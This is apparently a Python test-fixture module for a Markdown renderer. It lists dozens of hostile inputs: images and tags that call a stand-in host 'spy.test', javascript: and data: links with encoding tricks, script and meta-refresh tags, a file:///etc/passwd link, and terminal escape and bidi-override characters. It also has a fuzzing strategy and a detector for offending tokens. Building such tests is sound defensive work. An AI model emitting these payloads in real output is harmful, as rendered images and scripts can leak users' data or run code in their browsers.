"""What a hostile model, server or person would say, and a reader of Markdown that sees it act."""

from __future__ import annotations

from urllib.parse import urlsplit

from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

SPY = "http://spy.test:9"

SAYINGS = (
    "<img src={spy}/1>",
    "<img/src={spy}/2 onerror=alert(1)>",
    "![pixel]({spy}/3)",
    "![pixel]( {spy}/4 'a title')",
    "![pixel][ref]\n\n[ref]: {spy}/5",
    "![pixel]\n\n[pixel]: <{spy}/6>",
    "[![pixel]({spy}/7)](https://fine.test)",
    "![a\nb]({spy}/8)",
    "![[nested](https://x.test)]({spy}/9)",
    "![pixel](<{spy}/10> (title))",
    "![pixel](//spy.test:9/11)",
    "![pixel](data:image/svg+xml,<svg/onload=alert(1)>)",
    "!\\[not]({spy}/12) \\![but]({spy}/13)",
    "<script>document.title='owned'</script>",
    "<script src={spy}/14></script>",
    "<style>body{{display:none}} @import '{spy}/15';</style>",
    "<link rel=stylesheet href={spy}/16>",
    "<iframe src={spy}/17></iframe><object data={spy}/18></object><embed src={spy}/19>",
    "<form action={spy}/20><input name=key autofocus onfocus=alert(1)><button>Go</button></form>",
    "<base href={spy}/21/>",
    "<svg><image href={spy}/22></image><animate onbegin=alert(1)></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<video poster={spy}/23 src={spy}/24 autoplay></video><audio src={spy}/25 autoplay></audio>",
    "<div style='position:fixed;inset:0;background:url({spy}/26)'>over all</div>",
    "<meta http-equiv=refresh content='0;url={spy}/27'>",
    "<a href=javascript:alert(1)>x</a> <a href={spy} ping={spy}/28>y</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\x01script:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#97;vascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    '[x]( \n javascript:alert(1) "t")',
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//spy.test)",
    "[x](/gradio_api/file=secret)",
    "[x](?debate=1&__theme=dark)",
    "[x](#top)",
    "[x]()",
    "[a [b [c](javascript:alert(1))]]",
    "[![[x](javascript:1)](javascript:2)](javascript:3)",
    "[x][ref] [ref]\n\n[ref]: javascript:alert(1)\n[ref]: data:x 'title'",
    "[re\nf]:\n  javascript:alert(1)\n\n[re f]",
    "> - 1. [q]: javascript:alert(1)\n\n[q]",
    "<javascript:alert(1)> <data:text/html,x> <ftp://spy.test/x> <mailto:a@b.test> <https://x.test>",
    "<a@b.test> ftp://spy.test/29 //spy.test/30 xmpp:a@b.test www.spy.test a@b.test",
    "https://fine.test/a(b)?c=d&e=f#g http://spy.test.",
    "[^1] note\n\n[^1]: <img src={spy}/31>\n    javascript:x",
    "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
    "> ~~~mermaid\n> graph TD\n",
    "- ```\n  <img src={spy}/32>\n<img src={spy}/33>\n",
    "- ```\n  never closed",
    "1. a\n   ```\n   <script>alert(1)</script>\n```\n<img src={spy}/34>\n```",
    "```\n<img src={spy}/35>\n```~~\n<img src={spy}/36>",
    "~~~\n<b>\n~~~~ x\n<b>",
    "`` ` `` `<img src={spy}/37>` ``<b>`",
    "    <img src={spy}/38>\n\n\t<script>",
    "> ```\n<img src={spy}/39>\n> ```",
    "````\n```\n<b>\n````",
    "a `b\n```\n<b>` c\n```",
    "<!-- --><img src={spy}/40><!-->",
    "<![CDATA[<img src={spy}/41>]]> <?php echo 1 ?> <!DOCTYPE x>",
    "</div></article></details></pre></blockquote></td>",
    "<details open><summary>x",
    "<pre><code>never closed",
    "<textarea><title><xmp><noscript><template>",
    "&lt;img src=x&gt; &#60;img src={spy}/42&#62; &amp;lt;script&amp;gt;",
    "$$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{{spy}/43}}$$ $\\url{{x}}$",
    "\\(\\href{{javascript:alert(1)}}{{x}}\\) \\[x\\]",
    "- [ ] tick\n- [x] ticked\n1. [X] and this",
    "| a | b |\n|---|---|\n| <img src={spy}/44> | ![p]({spy}/45) |",
    "# heading <img src={spy}/46>\n\nsetext ![p]({spy}/47)\n===",
    "\x1b]8;;{spy}/48\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x9b31m \x1b]0;owned\x07",
    "\u202egnp.exe\u202c \u2066x\u2069 &#x202e;lrm &#8238; &#0; &#xD800; &#155;31m",
    "\ud83d half, \x00 nul, \ufeff, \u2028```\u2029<b>\u2028```",
    '[x](https://fine.test "<img src={spy}/49>") [<b>](https://fine.test)',
    '[x](https://fine.test/"onmouseover="alert(1))',
    "[x](mailto:a@b.test?subject=<script>)",
    "* * *\n---\n+ ```py\n+ ![p]({spy}/50)",
    "\\<img src={spy}/51> \\\\<img src={spy}/52> <\\img src={spy}/53>",
    "<IMG\nSRC={spy}/54\n> <\nimg> < img>",
    ":::note\n<img src={spy}/55>\n::: {{onclick=x}}\n[[wiki]] ![[embed.png]]",
)
"""Each attacks in its own way; ``{{spy}}`` is the place that must never be asked."""


def sayings(spy: str = SPY) -> list[str]:
    """The attacks, aimed at that host."""
    return [saying.format(spy=spy) for saying in SAYINGS]


_SIGNS = st.text(st.sampled_from("ab1 \n\t`~<>![]()\\*_#-+.:&;$|/'\"x=@\x1b\u202e\u2060\u2028é"))
_PIECES = st.one_of(
    st.sampled_from(sayings()),
    _SIGNS,
    st.text(max_size=8),
    st.sampled_from(
        ["\n", "\n\n", "```", "~~~", "> ", "- ", "1. ", "    ", "](", "]:", "![", "<", "`", " "]
    ),
)
HOSTILE = st.lists(_PIECES, max_size=8).map("".join)
"""Attacks, broken pieces of them, and whatever else can be typed, in any order."""


class _Believer(MarkdownIt):
    """A reader that makes a link of every address, also of scripts."""

    def validateLink(self, url: str) -> bool:
        return True


_READER = _Believer("gfm-like", {"html": True, "linkify": True, "typographer": False})


def read(markdown: str) -> list[Token]:
    """Every token that a reader with raw HTML, tables and bare links finds, also within lines."""
    found = []
    for token in _READER.parse(markdown):
        found += [token, *(token.children or [])]
    return found


def blocks(markdown: str) -> list[str]:
    """The kinds of the document's outermost blocks, and the words of its last line."""
    tokens = _READER.parse(markdown)
    outer = [token.type for token in tokens if token.level == 0 and token.nesting >= 0]
    last = [token.content for token in tokens if token.type == "inline"][-1:]
    return [*outer, *last]


def offences(markdown: str) -> list[str]:
    """What in it would act instead of being words."""
    bad = []
    for token in read(markdown):
        if token.type in ("html_inline", "html_block", "image"):
            bad.append(f"{token.type}: {token.content}")
        href = str(token.attrGet("href") or "") if token.type == "link_open" else "https:"
        if urlsplit(href).scheme not in ("http", "https", "mailto"):
            bad.append(f"link: {href}")
        if token.type == "fence" and token.info.strip():
            bad.append(f"fence of {token.info}")
    return bad
